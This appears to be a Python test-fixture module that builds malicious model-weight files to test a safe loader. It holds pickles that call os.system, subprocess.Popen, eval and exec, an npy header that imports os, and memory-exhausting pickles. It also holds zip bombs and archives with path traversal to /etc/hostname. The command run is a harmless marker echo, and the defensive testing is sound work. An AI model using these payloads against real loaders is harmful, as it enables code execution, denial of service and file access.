"""Files of weights designed to do harm: by code that would run where pickles are trusted, by size, or by lies."""

import io
import json
import struct
import zipfile
from collections.abc import Callable, Mapping
from typing import Any

COMMAND = "echo > marker"
"""What the code in the files would run."""

_PROTO = b"\x80\x04"
_MANY = 6_000_000


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


_RUN = _text(COMMAND)
_WRITE = _text("open('marker', 'w')")

CODE: Mapping[str, bytes] = {
    "REDUCE": b"cos\nsystem\n(" + _RUN + b"tR.",
    "REDUCE by a name on the stack": _PROTO + b"\x8c\x02os\x8c\x06system\x93" + _RUN + b"\x85R.",
    "REDUCE by a name in the memo": _PROTO + b"\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93" + _RUN + b"\x85R.",
    "INST": b"(" + _RUN + b"ios\nsystem\n.",
    "OBJ": b"(cos\nsystem\n" + _RUN + b"o.",
    "NEWOBJ": _PROTO + b"csubprocess\nPopen\n" + _RUN + b"\x85\x81.",
    "NEWOBJ_EX": _PROTO + b"csubprocess\nPopen\n" + _RUN + b"\x85}" + _text("shell") + b"\x88s\x92.",
    "eval": b"cbuiltins\neval\n(" + _WRITE + b"tR.",
    "eval of Python 2": b"c__builtin__\neval\n(" + _WRITE + b"tR.",
    "exec": b"cbuiltins\nexec\n(" + _WRITE + b"tR.",
    "open": b"cbuiltins\nopen\n(" + _text("marker") + _text("w") + b"tR.",
    "import": b"cbuiltins\n__import__\n(" + _text("antigravity") + b"tR.",
    "import by a name": _PROTO + b"cantigravity\nharm\n.",
    "getattr": b"cbuiltins\ngetattr\n(cos\npath\n" + _text("os") + b"tR" + b"(" + _RUN + b"tR.",
    "BUILD of a class": _PROTO + b"ccollections\nUserDict\n)\x81}" + _text("__class__") + b"cos\nsystem\nsb.",
    "BUILD with __setstate__": _PROTO
    + b"ccollections\nUserDict\n)\x81}"
    + _text("__setstate__")
    + b"cos\nsystem\nsb"
    + _RUN
    + b"b.",
    "BUILD with slots": _PROTO + b"ccollections\nUserDict\n)\x81N}" + _text("data") + b"cos\nsystem\ns\x86b.",
    "a persistent id": b"Pos.system\n.",
    "a persistent id on the stack": b"(cos\nsystem\n" + _RUN + b"tQ.",
    "an extension": b"\x80\x02\x82\x01(" + _RUN + b"tR.",
    "a long extension": b"\x80\x02\x84\x01\x00\x00\x00(" + _RUN + b"tR.",
    "a type's constructor": b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\ncos\nsystem\n(" + _RUN + b"t}tR.",
    "copyreg": b"ccopyreg\n__newobj__\n(cos\nsystem\n" + _RUN + b"tR.",
    "copyreg of Python 2": b"ccopy_reg\n_reconstructor\n(cos\nsystem\ncbuiltins\nobject\n" + _RUN + b"tR.",
    "numpy": b"cnumpy.testing._private.utils\nrunstring\n(" + _WRITE + b"}tR.",
    "torch": b"ctorch.hub\nload\n(" + _text("x/y") + _text("z") + b"tR.",
    "a pickle in a pickle": b"cpickle\nloads\n(C\x22cos\nsystem\n(" + _RUN + b"tR.    tR.",
    "a partial": _PROTO + b"cfunctools\npartial\n(cos\nsystem\n" + _RUN + b"tR)R.",
    "a defaultdict": _PROTO + b"ccollections\ndefaultdict\n(cos\nsystem\ntR.",
    "keys that are called to compare": _PROTO + b"}(ccollections\nUserString\n(" + _RUN + b"tRNu.",
    "a storage of code": b"\x80\x02(" + _text("storage") + b"cos\nsystem\n" + _text("0") + _text("cpu") + b"K\x01tQ.",
}
"""Pickles that would run or import something where pickles are trusted; each is one value."""


def within_a_mapping(pickle: bytes) -> bytes:
    """A mapping of a name to what the pickle makes, whatever its protocol."""
    body = pickle[2:] if pickle.startswith(b"\x80") else pickle
    return _PROTO + b"}" + _text("conv1.weight") + body[:-1] + b"s."


def torch_archive(pickle: bytes, members: Mapping[str, bytes] = {}, **options: Any) -> bytes:
    """An archive as `torch.save` writes it."""
    return zipped({"w/data.pkl": pickle, "w/version": b"3\n"} | dict(members), **options)


def zipped(members: Mapping[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive of these members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return file.getvalue()


def tensor(
    count: int = 1,
    key: str = "0",
    shape: bytes = b"K\x01\x85",
    strides: bytes = b"K\x01\x85",
    offset: bytes = b"K\0",
    kind: str = "FloatStorage",
) -> bytes:
    """The part of a pickle that makes a tensor of a storage with so many elements."""
    size = b"\x8a\x09" + count.to_bytes(9, "little", signed=True)
    storage = b"(" + _text("storage") + b"ctorch\n" + kind.encode() + b"\n" + _text(key) + _text("cpu") + size + b"tQ"
    empty = b"ccollections\nOrderedDict\n)R"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + offset + shape + strides + b"\x89" + empty + b"tR"


def mapping(value: bytes, name: str = "conv1.weight") -> bytes:
    """A pickle of a mapping with one entry."""
    return b"\x80\x02}" + _text(name) + value + b"s."


def _huge(value: int) -> bytes:
    return b"\x8a\x0a" + value.to_bytes(10, "little", signed=True)


def _safetensors(header: bytes | Mapping[str, Any], data: bytes = b"\0" * 8, length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def _changed(data: bytes, old: bytes, new: bytes) -> bytes:
    """The data with a part replaced by one of equal length, everywhere."""
    assert old in data
    assert len(old) == len(new)
    return data.replace(old, new)


def _npy(header: str, data: bytes = b"") -> bytes:
    text = header.encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data


def _npz(header: str, data: bytes = b"", compression: int = zipfile.ZIP_STORED) -> bytes:
    return zipped({"conv1.npy": _npy(header, data)}, compression)


def _declared(claim: int, data: bytes, compression: int) -> bytes:
    """An archive of an array of bytes that claims to have more of them."""
    header = f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({claim},), }}"
    whole = _npz(header, data, compression)
    true = struct.pack("<I", len(_npy(header, data)))
    return whole.replace(true, struct.pack("<I", len(_npy(header)) + claim))


def _overlapping() -> bytes:
    """An archive in which the list has a hundred members at the place of the one array."""
    one = zipped({"000.npy": _npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", b"\0" * 4)})
    start, end = one.index(b"PK\1\2"), one.index(b"PK\5\6")
    entries = b"".join(one[start:end].replace(b"000", b"%03d" % number) for number in range(100))
    return one[:start] + entries + one[end : end + 12] + struct.pack("<I", len(entries)) + one[end + 16 :]


def _many_members() -> bytes:
    """A zip archive whose list has three hundred thousand members, all at one place."""
    one = zipped({"aa": b""})
    start = one.index(b"PK\1\2")
    entry, end = one[start : one.index(b"PK\5\6")], bytearray(one[one.index(b"PK\5\6") :])
    end[12:16] = struct.pack("<I", len(entry) * 300_000)
    return one[:start] + entry * 300_000 + bytes(end)


def _same_hash() -> bytes:
    """Integers that all have the same hash."""
    return b"".join(b"\x8a\x0a" + (number * (2**61 - 1)).to_bytes(10, "little") + b"N" for number in range(200_000))


def _long() -> bytes:
    """Eight megabytes after their length."""
    return struct.pack("<I", 2**23) + b"a" * 2**23


LARGE: Mapping[str, Callable[[], bytes]] = {
    "marks": lambda: _PROTO + b"(" * _MANY + b".",
    "lists": lambda: _PROTO + b"]" * _MANY + b".",
    "sets": lambda: _PROTO + b"\x8f" * _MANY + b".",
    "lists in lists": lambda: _PROTO + b"]" * 400_000 + b"a" * 399_999 + b".",
    "tuples in tuples": lambda: _PROTO + b")" + b"\x85" * 800_000 + b".",
    "copies": lambda: _PROTO + b"N" + b"2" * _MANY + b".",
    "a memo": lambda: _PROTO + b"N" + b"\x94" * _MANY + b".",
    "numbers": lambda: _PROTO + b"K\x01" * _MANY + b".",
    "placeholders": lambda: _PROTO + b"ca\nb\n\x94" + b"h\x00)R" * (_MANY // 3) + b".",
    "a deep tuple as a key": lambda: _PROTO + b"})" + b"\x85" * 500_000 + b"Ns.",
    "a list of pairs copied often": lambda: _PROTO + b"ccollections\nOrderedDict\n\x94]\x94("
    + b"K\x01K\x01\x86" * 99_999 + b"e\x85\x94" + b"h\x00h\x02R0" * 99_999 + b".",
    "an array that is filled often": lambda: _PROTO + b"cnumpy.core.multiarray\n_reconstruct\n)R" + b"\x94" * 2_000_000
    + b"Nb" * 900_000 + b".",
    "a text encoded often": lambda: _PROTO + b"c_codecs\nencode\n\x94X" + _long() + b"\x8c\x06latin1\x86\x94"
    + b"h\x00h\x01R0" * 99_999 + b".",
    "keys with one hash": lambda: _PROTO + b"}(" + _same_hash() + b"u.",
    "long keys that are equal": lambda: _PROTO + b"}\x94X" + _long() + b"\x94X" + _long() + b"\x94h\x00h\x01Ns"
    + b"h\x02Ns" * 99_999 + b".",
    "a long number as a key": lambda: _PROTO + b"}\x94\x8b" + _long() + b"\x94h\x00" + b"h\x01Ns" * 99_999 + b".",
}  # fmt: skip
"""Pickles whose reading takes seconds, and would take hours or all memory without limits."""

LIES: Mapping[str, Callable[[], bytes]] = {
    "a number of a million digits": lambda: b"L" + b"9" * 2**20 + b"L\n.",
    "a text that claims to be long": lambda: _PROTO + b"\x8d" + b"\xff" * 7 + b"\x3fa.",
    "bytes that claim to be long": lambda: _PROTO + b"\x8e" + b"\xff" * 7 + b"\x3fa.",
    "a tuple that doubles as a key": lambda: _PROTO + b"}))" + b"\x86" + b"2\x86" * 100 + b"Ns.",
    "a list in itself": lambda: _PROTO + b"]\x94h\x00a.",
    "a mapping in itself": lambda: _PROTO + b"}\x94" + _text("model") + b"h\x00s.",
    "a placeholder in itself": lambda: _PROTO + b"ca\nb\n)\x81\x94}" + _text("model") + b"h\x00sb.",
    "storages in storages": lambda: _PROTO + b"ctorch.storage\n_load_from_bytes\n\x94C\xf0" + b"\x80\x02" + b"]" * 237
    + b".\x85\x94" + b"h\x00h\x01R0" * 99_999 + b".",
    "a storage that is too short": lambda: torch_archive(mapping(tensor(2**40)), {"w/data/0": b"\0" * 4}),
    "a storage that is missing": lambda: torch_archive(mapping(tensor())),
    "a tensor beyond its storage": lambda: torch_archive(mapping(tensor(offset=b"K\x01")), {"w/data/0": b"\0" * 4}),
    "a tensor of strides": lambda: torch_archive(
        mapping(tensor(shape=b"K\x02\x85", strides=_huge(2**61) + b"\x85")), {"w/data/0": b"\0" * 4}
    ),
    "a tensor of one element": lambda: torch_archive(
        mapping(tensor(shape=_huge(2**40) + b"\x85", strides=b"K\0\x85")), {"w/data/0": b"\0" * 4}
    ),
    "a negative shape": lambda: torch_archive(mapping(tensor(shape=_huge(-1) + b"\x85")), {"w/data/0": b"\0" * 4}),
    "an impossible shape": lambda: torch_archive(
        mapping(tensor(shape=_huge(2**40) + _huge(2**40) + b"\x86", strides=b"K\0K\0\x86")), {"w/data/0": b"\0" * 4}
    ),
    "a storage elsewhere": lambda: torch_archive(mapping(tensor(key="../../w/version"))),
    "a storage by an absolute path": lambda: torch_archive(
        mapping(tensor(key="/etc/hostname")), {"/etc/hostname": b"\0" * 4}
    ),
    "a pickle that claims to inflate": lambda: _changed(
        torch_archive(b"a" * 1000, compression=zipfile.ZIP_DEFLATED), struct.pack("<I", 1000), struct.pack("<I", 2**29)
    ),
    "an array that claims to inflate": lambda: _declared(2**31, b"", zipfile.ZIP_DEFLATED),
    "an array that claims to be longer": lambda: _declared(2**31, b"", zipfile.ZIP_STORED),
    "an array of an impossible shape": lambda: _npz(
        "{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776, 1099511627776), }"
    ),
    "an array with code in its header": lambda: _npz(
        "{'descr': __import__('os').system('echo > marker'), 'fortran_order': False, 'shape': (1,), }", b"\0" * 4
    ),
    "an array with a deep header": lambda: _npz("(" * 9_000 + ")" * 9_000),
    "an array of objects": lambda: _npz(
        "{'descr': '|O', 'fortran_order': False, 'shape': (), }", CODE["REDUCE"]
    ),
    "a file of objects": lambda: _npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", CODE["REDUCE"]),
    "members elsewhere": lambda: torch_archive(
        mapping(tensor()), {"w/data/0": b"\0" * 4, "../harm": b"\0" * 4, "/tmp/harm": b"\0" * 4}
    ),
    "members at one place": _overlapping,
    "a member with two sizes": lambda: torch_archive(mapping(tensor(99)), {"w/data/0": b"\0" * 4}).replace(
        struct.pack("<II", 4, 4), struct.pack("<II", 4, 396)
    ),
    "a list of 300,000 members": _many_members,
    "an archive that ends early": lambda: torch_archive(mapping(tensor()), {"w/data/0": b"\0" * 4})[:-9],
    "a header that claims to be long": lambda: _safetensors({}, length=2**62),
    "a header of brackets": lambda: _safetensors(b"{" + b'"a":[' * 100_000),
    "tensors that overlap": lambda: _safetensors(
        {name: {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]} for name in "ab"}
    ),
    "a tensor beyond the file": lambda: _safetensors(
        {"a": {"dtype": "F32", "shape": [2**32], "data_offsets": [0, 2**34]}}
    ),
    "an index of files elsewhere": lambda: json.dumps({"weight_map": {"a": "/etc/hostname"}}).encode(),
    "an index of itself": lambda: json.dumps({"weight_map": {"a": "weights"}}).encode(),

    "a deep index": lambda: b'{"weight_map":' + b"[" * 100_000,
}  # fmt: skip
"""Files that claim, ask for or contain too much, or that refer to what they should not."""


def members_of(data: bytes) -> dict[str, bytes]:
    """The members of a zip archive; none if the data is no whole archive, or a large one."""
    if not data.startswith(b"PK"):
        return {}
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            members = [member for member in archive.infolist() if member.file_size < 2**16]
            return {member.filename: archive.read(member) for member in members[:100]}
    except Exception:  # whatever is wrong with it
        return {}
